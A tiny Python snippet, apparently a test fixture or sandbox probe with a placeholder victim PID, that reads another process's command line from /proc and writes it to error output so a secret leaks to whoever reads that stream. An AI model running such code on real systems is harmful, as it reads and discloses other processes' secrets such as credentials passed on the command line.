"""A secret goes out by the error output, which the operator reads and the learner may, too."""
import os
os.dup2(1, 2)
os.write(2, open("/proc/@VICTIM_PID@/cmdline", "rb").read())
